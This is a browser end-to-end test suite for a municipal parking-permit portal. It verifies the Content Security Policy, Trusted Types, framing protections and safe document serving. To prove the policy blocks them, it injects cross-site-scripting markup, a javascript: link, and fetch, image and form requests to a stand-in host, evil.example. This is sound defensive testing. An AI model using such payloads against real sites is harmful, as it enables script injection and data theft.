import type { Page, Response } from 'playwright-core';
import type { Application } from '../scripts/application.ts';
import { waitUntil } from '../scripts/stack/wait-until.ts';
import { closeBrowser, signIn, visitor } from './support/browser.ts';
import type { Visitor } from './support/browser.ts';
import { claimCase, findCase, readCase } from './support/cases.ts';
import { parkingForm } from './support/parking-form.ts';
import { PortalClient } from './support/portal-client.ts';
import { product } from './support/product.ts';
import { StaffClient } from './support/staff-client.ts';

/** Keeps what the browser reports as violations of the policy. */
const keepViolations = `window.violations = [];
document.addEventListener('securitypolicyviolation', (event) => {
  window.violations.push(event.effectiveDirective + ' ' + event.blockedURI + ' ' + event.disposition);
});`;

/** Directives of a policy header by name. */
function directives(header: string | undefined): Record<string, string> {
  return Object.fromEntries(
    (header ?? '').split(';').map((part) => {
      const [name = '', ...values] = part.trim().split(/\s+/);
      return [name, values.join(' ')];
    }),
  );
}

/** Delivers the next page as it comes, headers included, with this markup at the end of its body. */
async function withInjected(page: Page, path: string, markup: string): Promise<Response | null> {
  const only = (url: URL): boolean => url.pathname.endsWith(path.split(/[?#]/)[0] ?? path);
  await page.route(only, async (route) => {
    const reply = await route.fetch();
    const body = (await reply.text()).replace('</body>', `${markup}</body>`);
    await route.fulfill({ response: reply, body });
  });
  const response = await page.goto(path);
  await page.unroute(only);
  return response;
}

describe('The policy of the pages, in the browser', () => {
  let application: Application;
  let clerk: Visitor;
  let stranger: Visitor;
  let jana: StaffClient;
  let caseId: string;
  let statusLink: string;
  let evidence: string;
  beforeAll(async () => {
    application = await product();
    const portal = await PortalClient.connect(application.url);
    const receipt = await portal.apply(parkingForm({}, { email: 'richtlinie@example.org' }));
    statusLink = receipt.statusLink;
    jana = await StaffClient.signIn(application.url, 'jana.krueger');
    caseId = await findCase(jana, receipt.caseNumber);
    await claimCase(jana, caseId);
    const { documents } = await readCase(jana, caseId);
    evidence = documents.find(({ kind }) => kind === 'evidence')?.versions[0]?.id ?? '';
    clerk = await visitor(application.url);
    await signIn(clerk.page, 'Jana Krüger');
    stranger = await visitor(application.url);
    for (const { page } of [clerk, stranger]) await page.addInitScript(keepViolations);
  }, 300_000);
  afterAll(closeBrowser);

  const pages = (): readonly (readonly [who: Visitor, path: string])[] => [
    [stranger, '/de/anmelden'],
    [stranger, '/de/lindenau'],
    [stranger, '/de/lindenau/antrag/bewohnerparkausweis'],
    [stranger, `/de/lindenau/status${new URL(statusLink).hash}`],
    [stranger, '/en/lindenau'],
    [stranger, '/de/gibt-es-nicht'],
    [clerk, '/de/arbeitsvorrat/meine'],
    [clerk, `/de/vorgang/${caseId}`],
    [clerk, `/de/vorgang/${caseId}/entscheiden`],
    [clerk, `/de/vorgang/${caseId}/dokument?fassung=${evidence}`],
    [clerk, '/de/akten'],
    [clerk, '/de/forderungen'],
    [clerk, '/de/versand'],
    [clerk, '/de/vorgang-anlegen'],
    [clerk, '/de/einstellungen'],
  ];

  it('comes with every page: a nonce of its own, Trusted Types, no foreign host and no frame', async () => {
    const nonces = new Set<string>();
    for (const [{ page }, path] of pages()) {
      const headers = (await page.goto(path))?.headers() ?? {};
      const policy = directives(headers['content-security-policy']);
      expect(policy['script-src'])
        .withContext(path)
        .toMatch(/^'self' 'nonce-[\w+/=]{20,}'$/);
      nonces.add(policy['script-src'] ?? '');
      expect(policy)
        .withContext(path)
        .toEqual(
          jasmine.objectContaining({
            'default-src': "'self'",
            'connect-src': "'self'",
            'object-src': "'none'",
            'base-uri': "'self'",
            'form-action': "'self'",
            'frame-ancestors': "'none'",
            'require-trusted-types-for': "'script'",
          }),
        );
      expect(headers['content-security-policy']).not.toMatch(/unsafe-|https?:|\*/);
      expect(headers)
        .withContext(path)
        .toEqual(
          jasmine.objectContaining({
            'x-content-type-options': 'nosniff',
            'referrer-policy': 'no-referrer',
            'cross-origin-opener-policy': 'same-origin',
            'cross-origin-resource-policy': 'same-origin',
            'x-frame-options': 'DENY',
            'cache-control': 'no-store',
          }),
        );
      expect(headers['permissions-policy']).toContain('camera=()');
    }
    expect(nonces.size).toBe(pages().length);
  }, 300_000);

  it('stops scripts and handlers that somebody brought into a page, and says so', async () => {
    const markup = `<script>window.injected = 'script'</script>
      <script nonce="">window.injected = 'empty nonce'</script>
      <img src="/nirgends" onerror="window.injected = 'handler'">
      <iframe srcdoc="<script>parent.injected = 'srcdoc'</script>"></iframe>
      <a id="trap" href="javascript:window.injected = 'address'">x</a>
      <object data="/nirgends"></object><form id="away" action="https://evil.example/"></form>`;
    for (const [{ page }, path] of pages()) {
      await withInjected(page, path, markup);
      await page.evaluate(
        "document.querySelector('#trap')?.click(); document.querySelector('#away')?.submit()",
      );
      const seen = (): Promise<string[]> => page.evaluate('window.violations');
      const wanted = ['script-src-elem', 'script-src-attr', 'form-action'];
      await waitUntil(`violations on ${path}`, 30_000, async () => {
        const found = await seen();
        return wanted.every((name) => found.some((one) => one.startsWith(`${name} `)));
      });
      expect(await seen())
        .withContext(path)
        .toContain('script-src-elem inline enforce');
      expect(await page.evaluate('window.injected ?? null'))
        .withContext(path)
        .toBeNull();
    }
  }, 300_000);

  it('gives no text to where the browser would run it, and no policy to whoever asks for one', async () => {
    for (const [{ page }, path] of pages()) {
      await page.goto(path);
      const sinks: Record<string, string> = {
        innerHTML: "document.createElement('p').innerHTML = '<img src=x>'",
        outerHTML: "document.body.appendChild(document.createElement('p')).outerHTML = '<b>x</b>'",
        insertAdjacentHTML: "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
        'document.write': "document.write('<b>x</b>')",
        'script.src': "document.createElement('script').src = 'https://evil.example/x.js'",
        'script.text': "document.createElement('script').text = 'window.injected = 1'",
        srcdoc: "document.createElement('iframe').srcdoc = '<b>x</b>'",
        DOMParser: "new DOMParser().parseFromString('<b>x</b>', 'text/html')",
        'own policy': "trustedTypes.createPolicy('evil', { createHTML: (text) => text })",
        'default policy': "trustedTypes.createPolicy('default', { createHTML: (text) => text })",
      };
      for (const [name, code] of Object.entries(sinks)) {
        const outcome = await page.evaluate<string>(
          `(() => { try { ${code}; return 'passed'; } catch (error) { return error.name; } })()`,
        );
        expect(outcome).withContext(`${name} on ${path}`).toBe('TypeError');
      }
      const seen = await page.evaluate<string[]>('window.violations');
      expect(seen.some((one) => one.startsWith('require-trusted-types-for trusted-types-sink')))
        .withContext(path)
        .toBeTrue();
      expect(seen.some((one) => one.startsWith('trusted-types trusted-types-policy')))
        .withContext(path)
        .toBeTrue();
    }
  }, 300_000);

  it('speaks to no other host and lets no other page frame it', async () => {
    const { page } = stranger;
    await page.goto('/de/lindenau');
    const asked = await page.evaluate<string>(
      "fetch('https://evil.example/').then(() => 'passed', (error) => error.name)",
    );
    expect(asked).toBe('TypeError');
    await page.evaluate("new Image().src = 'https://evil.example/x.png'");
    await waitUntil('violations', 30_000, async () => {
      const seen = await page.evaluate<string[]>('window.violations');
      return ['connect-src', 'img-src'].every((name) => seen.some((one) => one.startsWith(name)));
    });
    const outside = await visitor(application.url);
    await outside.page.route('https://evil.example/', (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: `<iframe src="${application.url}/de/lindenau"></iframe>`,
      }),
    );
    await outside.page.goto('https://evil.example/');
    const framed = outside.page.frames().find((frame) => frame !== outside.page.mainFrame());
    await waitUntil('refused frame', 30_000, () => framed?.url().startsWith('chrome-error:'));
    await outside.close();
  }, 300_000);

  it('runs nothing of a document, whatever its bytes are, and saves what it does not know', async () => {
    const { page } = clerk;
    const path = `/api/v1/documents/${evidence}/content?disposition=inline`;
    const own = await jana.fetch(`/documents/${evidence}/content`);
    expect(own.headers.get('content-disposition')).toMatch(/^attachment; filename\*=UTF-8''/);
    await own.body?.cancel();
    let headers: Record<string, string> = {};
    await page.route(`**${path}`, async (route) => {
      const reply = await route.fetch();
      headers = reply.headers();
      await route.fulfill({
        status: 200,
        // as if the store had given back a page instead of what was filed
        headers: { ...headers, 'content-type': 'text/html', 'content-disposition': 'inline' },
        body: `<p id="shown">gezeigt</p><script>document.querySelector('#shown').textContent = 'lief'</script>
          <img src="/nirgends" onerror="document.querySelector('#shown').textContent = 'lief'">`,
      });
    });
    await page.goto(path);
    expect(await page.locator('#shown').textContent()).toBe('gezeigt');
    expect(await page.evaluate('self.origin')).toBe('null');
    expect(directives(headers['content-security-policy'])).toEqual(
      jasmine.objectContaining({ 'default-src': "'none'", sandbox: '', 'frame-ancestors': "'self'" }),
    );
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect(headers['cross-origin-resource-policy']).toBe('same-origin');
    await page.unroute(`**${path}`);
    await page.goto(`/de/vorgang/${caseId}`);
    const download = page.waitForEvent('download');
    await page.evaluate(`location.assign('/api/v1/documents/${evidence}/content')`);
    expect((await download).suggestedFilename()).toBe('Fahrzeugschein.pdf');
  }, 300_000);

  it('covers files and replies that are no page as well', async () => {
    const { page } = stranger;
    await page.goto('/de/lindenau');
    const files = await page.evaluate<string[]>(
      "performance.getEntriesByType('resource').map((one) => one.name).filter((name) => /\\.(js|css|woff2)$/.test(name))",
    );
    const addresses = [
      ...files.slice(0, 6),
      `${application.url}/api/v1/session`,
      `${application.url}/citizen/v1/lindenau/services`,
      `${application.url}/health`,
      `${application.url}/api/v1/nirgends`,
    ];
    expect(files.length).toBeGreaterThan(2);
    for (const address of addresses) {
      const reply = await fetch(address);
      const policy = directives(reply.headers.get('content-security-policy') ?? undefined);
      expect(policy)
        .withContext(address)
        .toEqual(
          jasmine.objectContaining({
            'default-src': "'none'",
            'base-uri': "'none'",
            'frame-ancestors': "'none'",
          }),
        );
      expect(reply.headers.get('x-content-type-options')).withContext(address).toBe('nosniff');
      await reply.body?.cancel();
    }
  }, 120_000);
});
